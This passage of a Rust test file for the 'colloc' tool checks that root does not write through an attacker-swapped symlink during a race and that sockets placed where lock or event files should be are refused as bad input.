    assert!(swaps.load(Ordering::Relaxed) > 1000);
    assert_eq!(wrote + refusals, 40);
    assert_eq!(
        std::fs::read_dir(&target).unwrap().count(),
        0,
        "root wrote through the attacker's link"
    );
    // What root made is root's alone, in the attacker's real directory.
    let real = if std::fs::symlink_metadata(att.join("a")).unwrap().is_dir() {
        att.join("a")
    } else {
        att.join("l")
    };
    let made: Vec<_> = std::fs::read_dir(&real)
        .unwrap()
        .map(|e| e.unwrap())
        .collect();
    assert_eq!(made.len(), wrote, "{made:?}");
    for e in made {
        let m = e.metadata().unwrap();
        assert_eq!((m.uid(), m.mode() & 0o7777), (0, 0o700), "{:?}", e.path());
    }
}

#[test]
fn sockets_where_colloc_reads_are_refused_as_bad_input() {
    // A socket cannot be opened (ENXIO): it was "cannot open …: No such device or
    // address", exit 1, where a FIFO in its place is refused as bad input (exit 2).
    let t = tmp();
    let socket = |p: &Path| std::os::unix::net::UnixListener::bind(p).unwrap();
    let rec = t.path().join("rec");
    record(t.path(), &rec, None, &[]);
    std::fs::remove_file(rec.join(".colloc.lock")).unwrap();
    let _lock = socket(&rec.join(".colloc.lock"));
    refused(
        &output(colloc(t.path()).args(["report", "--no-write"]).arg(&rec)),
        ".colloc.lock is a socket, not a regular file",
    );
    refused(
        &output(
            colloc(t.path())
                .args(["run", "-q", "-n", "1", "--report-dir"])
                .arg(&rec)
                .args(["--", "true"]),
        ),
        ".colloc.lock is a socket, not a regular file",
    );
    let dir = t.path().join("ev");
    std::fs::create_dir_all(dir.join("events")).unwrap();
    let _ev = socket(&dir.join("events/1.main.jsonl"));
    refused(
        &output(colloc(t.path()).arg("report").arg(&dir)),
        "1.main.jsonl is a socket, not a regular file",
    );
    refused(
        &output(
            colloc(t.path())
                .args(["run", "-f"])
                .arg(dir.join("events/1.main.jsonl")),
        ),
        "a socket, not a regular file",
    );
}
